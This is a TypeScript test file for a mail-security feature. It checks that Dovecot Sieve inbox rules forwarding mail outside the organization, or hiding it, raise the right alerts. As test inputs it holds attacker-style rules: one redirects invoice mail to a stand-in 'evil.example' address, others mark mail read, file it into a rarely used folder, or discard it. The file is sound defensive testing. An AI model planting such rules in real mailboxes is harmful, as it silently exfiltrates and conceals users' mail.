import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { addUser, createTestApp, storeKinds, type TestApp } from '../support/test-app.js';

for (const kind of storeKinds) {
  describe(`alerts from inbox rules saved in Dovecot (${kind})`, () => {
    let testApp: TestApp;
    const change = (user: string, text: string, action = 'save') =>
      testApp.app.respond.reviewInboxRuleChange({ user, script: 'rules', action, actor: user, text });
    const alertsOf = (mailbox: string) => testApp.app.alerts.list({ mailbox });

    before(async () => {
      testApp = await createTestApp(kind);
      for (const name of ['ann', 'ben', 'cat', 'dan']) await addUser(testApp.app, `${name}@example.org`);
    });
    after(() => testApp.cleanup());

    test('forwarding inside the organization and ordinary filing raise nothing', async () => {
      const raised = await change(
        'ann@example.org',
        'require "fileinto"; redirect "ben@example.org"; fileinto "Projects";',
      );
      assert.deepEqual(raised, []);
      assert.deepEqual(await alertsOf('ann@example.org'), []);
    });

    test('a rule forwarding outside raises the informational alert; its save and activation are one alert', async () => {
      const script = 'if header :contains "subject" "invoice" { redirect :copy "Drop@Evil.example"; }';
      await change('ben@example.org', script, 'save');
      await change('ben@example.org', script, 'activate');
      const [alert, ...others] = await alertsOf('ben@example.org');
      assert.deepEqual(others, []);
      assert.equal(alert?.type, 'external-forwarding-rule');
      assert.equal(alert?.severity, 'informational');
      assert.equal(alert?.count, 2);
      assert.deepEqual(alert?.evidence['forwardingTo'], ['drop@evil.example']);
      assert.equal(alert?.evidence['action'], 'activate');
    });

    test('a rule that hides mail raises the medium alert, and with forwarding both', async () => {
      await change(
        'cat@example.org',
        'require ["imap4flags","fileinto"]; addflag "\\\\Seen"; fileinto "RSS Feeds";',
      );
      const [hidden] = await alertsOf('cat@example.org');
      assert.equal(hidden?.type, 'suspicious-inbox-rule');
      assert.equal(hidden?.severity, 'medium');
      assert.deepEqual(hidden?.evidence['findings'], [
        'marks mail as read',
        'hides mail in the rarely used folder "RSS Feeds"',
      ]);
      await change('dan@example.org', 'redirect "x@evil.example"; discard;');
      assert.deepEqual((await alertsOf('dan@example.org')).map((alert) => alert.type).sort(), [
        'external-forwarding-rule',
        'suspicious-inbox-rule',
      ]);
    });
  });
}
